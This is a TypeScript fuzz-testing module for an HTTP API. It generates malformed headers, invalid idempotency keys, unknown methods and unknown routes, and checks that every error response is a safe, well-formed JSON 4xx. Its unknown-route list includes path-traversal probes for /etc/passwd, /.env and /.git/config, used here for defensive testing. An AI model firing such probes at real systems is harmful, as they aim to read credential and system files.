        ['many headers', Array.from({ length: 90 }, (_, i): [string, string] => [`x-fuzz-${i}`, 'x'])],
        ['huge header', [['x-fuzz', rep(20_000, 'h')]]],
      )
      .map(([variant, extra]) => {
        const base = nominal(op, 'headers.odd', variant, false);
        return { ...base, headers: [...base.headers, ...extra] };
      }),
  'header.idempotencyKey': (op) => {
    if (!op.headerParams.some((name) => name.toLowerCase() === 'idempotency-key')) return undefined;
    // Keys the route must refuse whatever the body: the body may be valid, so the key's check is what is reached.
    const invalid: Array<[string, string[]]> = [
      ['space inside', ['fuzz key']],
      ['256 chars', [rep(256, 'k')]],
      ['300 chars', [rep(300, 'k')]],
      ['Latin-1', ['cl\u00e9']],
      ['\\xff', ['\u00ff\u00ff']],
      ['tab inside', ['fuzz\tkey']],
    ];
    // Keys a gateway may trim to nothing, drop or pick one of, or valid ones: the body must fail by itself.
    const unsure: Array<[string, string[]]> = [
      ['empty', ['']],
      ['spaces', ['   ']],
      ['two lines', ['fuzz-key-a', 'fuzz-key-b']],
      ['valid key', ['fuzz-key-1']],
      ['255 chars', [rep(255, 'k')]],
    ];
    return fc
      .oneof(fc.constantFrom(...invalid.map((v) => [...v, true] as const)), fc.constantFrom(...unsure.map((v) => [...v, false] as const)))
      .map(([variant, keys, keyFails]) => {
        const base = nominal(op, 'header.idempotencyKey', variant, true);
        const c = { ...base, headers: [...base.headers, ...keys.map((k): [string, string] => ['idempotency-key', k])] };
        return keyFails ? c : guard(op, c);
      });
  },
};

/** Methods the document does not give a path (GET on POST-only paths, PUT/DELETE/PATCH anywhere, odder ones). */
const OTHER_METHODS = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND', 'FUZZ'];

const routeKinds: Record<string, Kind> = {
  'method.unknown': (op, all) => {
    const taken = new Set(all.filter((other) => other.template === op.template).map((other) => other.method));
    const methods = OTHER_METHODS.filter((method) => !taken.has(method));
    return fc.tuple(fc.constantFrom(...methods), fc.boolean()).map(([method, withJson]) => {
      const base = withoutBody(nominal(op, 'method.unknown', method, true));
      return {
        ...base,
        method,
        headers: [...base.headers.filter(([name]) => name !== 'content-type'), ...(withJson ? [JSON_TYPE] : [])],
        ...(withJson ? { body: { json: obj([['fuzz', true]]) } } : {}),
      };
    });
  },
};

const UNKNOWN_PATHS = [
  '/',
  '/api/users',
  '/v1/catalogs',
  '/admin',
  '/.env',
  '/.git/config',
  '/users/{{me}}/orders/01ARZ3NDEKTSV4RRFFQ69G5FAV/items',
  '/catalogs/CATALOG-001/price',
  '/catalogs/CATALOG-001/stock/x',
  '/health/x',
  '/welcome/x',
  '/openapi.json/x',
  '/docs/x/y',
  '/.well-known/other.json',
  '/USERS',
  '/Catalogs',
  '/users/{{me}}/ORDERS',
  '/login/x',
  '/token',
  '/users/{{me}}/sessions',
  '/%zz',
  '/%',
  '/%00',
  '/..%2f..%2fetc%2fpasswd',
  '/../../etc/passwd',
  `/${rep(9000, 'x')}`,
];

/** The unknown routes: a pseudo-operation of its own. */
function unknownRoutes(): fc.Arbitrary<FuzzCase> {
  const path = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...UNKNOWN_PATHS) },
    {
      weight: 2,
      arbitrary: fc
        .array(fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 4 })
        .map((segments) => `/fuzz/${segments.map(encoded).join('/')}`),
    },
  );
  return fc.tuple(path, fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH'), fc.boolean()).map(([p, method, withToken]): FuzzCase => ({
    op: 'unknownRoute',
    kind: 'route.unknown',
    variant: UNKNOWN_PATHS.includes(p) ? p.slice(0, 30) : 'random',
    method,
    path: p,
    headers: [...(withToken ? [BEARER] : []), ...(method === 'GET' ? [] : [JSON_TYPE])],
    ...(method === 'GET' ? {} : { body: { json: obj([['fuzz', true]]) } }),
    mustFail: true,
  }));
}

/** Kinds whose body must reach the handler as generated: each is rejected by something it guarantees itself. */
const KEEPS_BODY = new Set(['header.idempotencyKey', 'body.wrongCredentials', 'body.garbageToken']);

const KINDS: Record<string, Kind> = { ...bodyKinds, ...pathKinds, ...queryKinds, ...headerKinds, ...routeKinds };

/** Weight of the unknown routes, counted like an operation's kinds. */
const UNKNOWN_ROUTES_WEIGHT = 8;

/**
 * Every case: each (operation, kind) pair that applies is equally likely (so an operation with a body, which
 * has a dozen body kinds, gets more cases than GET /health), and the unknown routes as much as eight pairs.
 */
export function fuzzCases(operations: Operation[]): { arbitrary: fc.Arbitrary<FuzzCase>; kindsByOperation: Record<string, string[]> } {
  const kindsByOperation: Record<string, string[]> = {};
  const perOperation = operations.map((op) => {
    const arbitraries: Array<fc.Arbitrary<FuzzCase>> = [];
    for (const [name, kind] of Object.entries(KINDS)) {
      const arbitrary = kind(op, operations);
      if (!arbitrary) continue;
      arbitraries.push(arbitrary.map((c) => guard(op, c, KEEPS_BODY.has(c.kind))));
      (kindsByOperation[op.id] ??= []).push(name);
    }
    return { arbitrary: fc.oneof(...arbitraries), weight: arbitraries.length };
  });
  kindsByOperation.unknownRoute = ['route.unknown'];
  return { arbitrary: fc.oneof(...perOperation, { arbitrary: unknownRoutes(), weight: UNKNOWN_ROUTES_WEIGHT }), kindsByOperation };
}

// ---------------------------------------------------------------------------------------------------------
// The rule every answer must meet.

export interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
  /** No HTTP answer at all (connection reset, timeout). */
  error?: string;
}

/**
 * How the gateway in front of the stage answers what it refuses itself (an unknown route or method, an
 * authorizer's refusal, throttling, a body too large), read from E2E_GATEWAY_RESPONSES:
 * - `applied` (the default: AWS, the local gateway): with the template's gateway responses
 *   (resources/platform.yml), so in the contract's error shape, `code` included; every answer meets the full rule.
 * - `status-only` (LocalStack 4.14, community and Pro alike; localstack/e2e.sh sets it): the template's status,
 *   but LocalStack's own body, `{"message":"Missing Authentication Token"}` (`{"Message":...}` for ACCESS_DENIED),
 *   no `code` and none of the template's headers: its execute_api/handlers/gateway_exception.py applies a gateway
 *   response's status only (`_build_response_content` is a TODO). The answers the gateway made itself (marked, as
 *   on AWS, by an `x-amzn-ErrorType` header; the functions never send one) are then checked for their status
 *   (the template's, where it sets one), JSON and a string message, not for `code` or Retry-After. Every other
 *   answer still meets the full rule, and the suite prints how many answers were checked so (fuzz.test.ts).
 */
export type GatewayResponses = 'applied' | 'status-only';

export function gatewayResponsesOf(value: string | undefined): GatewayResponses {
  if (value === undefined || value === '' || value === 'applied') return 'applied';
  if (value === 'status-only') return 'status-only';
  throw new Error(`E2E_GATEWAY_RESPONSES=${value}: expected applied (the default) or status-only`);
}

/** The statuses resources/platform.yml gives the gateway's own answers, by the x-amzn-ErrorType they carry. */
const GATEWAY_STATUS: Record<string, number> = {
  MissingAuthenticationTokenException: 404,
  UnauthorizedException: 401,
  AccessDeniedException: 403,
  TooManyRequestsException: 429,
  RequestTooLargeException: 413,
};

/** The error type of an answer the gateway made itself (API Gateway and LocalStack send `x-amzn-ErrorType`). */
export function gatewayErrorType(answer: Answer): string | undefined {
  const value = header(answer, 'x-amzn-errortype');
  // AWS may append details after a colon (`UnauthorizedException:http://...`).
  return value ? (value.split(':')[0] ?? value).trim() : undefined;
}

/** Whether `answer` is one the `status-only` rule checked in part: made by a gateway that applies no templates. */
export const checkedForStatusOnly = (answer: Answer, gateway: GatewayResponses): boolean =>
  gateway === 'status-only' && answer.error === undefined && answer.status >= 400 && gatewayErrorType(answer) !== undefined;

const JSON_MEDIA_TYPE = /^application\/(?:[\w.+-]+\+)?json\s*(?:;|$)/i;

/** Stack frames, file paths and runtime error names: nothing of the server's insides may reach a client. */
const LEAKS: Array<[RegExp, string]> = [
  [/\bat [^\s"]+ \(/, 'a stack frame'],
  [/\n\s+at /, 'a stack frame'],
  [/\/var\/(?:task|runtime)/, 'a Lambda path'],
  [/\.(?:ts|mts|js|mjs|cjs):\d+/, 'a source position'],
  [/node_modules/, 'a node_modules path'],
  [/\b(?:TypeError|ReferenceError|SyntaxError|RangeError|URIError)\b/, 'a runtime error name'],
];

function header(answer: Answer, name: string): string | undefined {
  const value = answer.headers[name];
  return Array.isArray(value) ? value.join(', ') : value;
}

/**
 * What is wrong with `answer` to `c` (empty: nothing). `op`: the operation it targets, if any. `gateway`: whether
 * the gateway applies the template's gateway responses (see GatewayResponses).
 */
export function problemsOf(c: FuzzCase, answer: Answer, op: Operation | undefined, gateway: GatewayResponses = 'applied'): string[] {
  if (answer.error !== undefined) return [`no HTTP answer (${answer.error})`];
  const problems: string[] = [];
  const { status, text } = answer;
  const contentType = header(answer, 'content-type') ?? '';
  if (c.status !== undefined && status !== c.status) problems.push(`a ${status} where only a ${c.status} will do`);
  if (status >= 500) problems.push(`a ${status} (a server error for a client's request)`);
  else if (status < 400) {
    if (c.mustFail) problems.push(`a ${status} for a malformed request (only a 4xx will do)`);
    else if (status >= 300 && status < 400) {
      if (c.method !== 'GET' || !header(answer, 'location')) problems.push(`a ${status} that is not a redirect of a GET`);
    } else if (op && !(String(status) in op.successes)) {
      problems.push(`a ${status}, which the document does not give ${op.method} ${op.template}`);
    } else if (op && JSON_MEDIA_TYPE.test(op.successes[String(status)] ?? '')) {
      if (!JSON_MEDIA_TYPE.test(contentType)) problems.push(`a ${status} whose content-type is "${contentType}", not JSON`);
      else if (text !== '' && plainOf(text) === undefined) problems.push(`a ${status} whose body is not JSON`);
    }
    return problems;
  }
  if (!JSON_MEDIA_TYPE.test(contentType)) problems.push(`content-type "${contentType}" is not JSON`);
  const body = plainOf(text);
  if (checkedForStatusOnly(answer, gateway)) {
    const type = gatewayErrorType(answer) ?? '';
    const expected = GATEWAY_STATUS[type];
    if (expected !== undefined && status !== expected)
      problems.push(`a ${status} for the gateway's ${type}, where the template gives ${expected}`);
    if (typeof body !== 'object' || body === null || Array.isArray(body)) problems.push('the body is not a JSON object');
    else {
      const record = body as Record<string, unknown>;
      if (typeof (record.message ?? record.Message) !== 'string') problems.push('no string "message"');
    }
  } else if (typeof body !== 'object' || body === null || Array.isArray(body)) problems.push('the body is not a JSON object');
  else {
    const record = body as Record<string, unknown>;
    if (typeof record.message !== 'string') problems.push('no string "message"');
    if (typeof record.code !== 'string' || !/^[A-Z][A-Z0-9_]*$/.test(record.code)) problems.push('no "code" (an upper-case word)');
    const extra = Object.keys(record).filter((key) => !['message', 'code', 'details'].includes(key));
    if (extra.length > 0) problems.push(`fields beyond message/code/details: ${extra.join(', ')}`);
    if (
      record.details !== undefined &&
      !(Array.isArray(record.details) && record.details.every((d) => typeof d?.field === 'string' && typeof d?.message === 'string'))
    ) {
      problems.push('"details" is not a list of {field, message}');
    }
  }
  if (status === 429 && !checkedForStatusOnly(answer, gateway) && !/^\d+$/.test(header(answer, 'retry-after') ?? ''))
    problems.push('a 429 without Retry-After (seconds)');
  for (const [pattern, what] of LEAKS) if (pattern.test(text)) problems.push(`the body shows ${what}`);
  return problems;
}
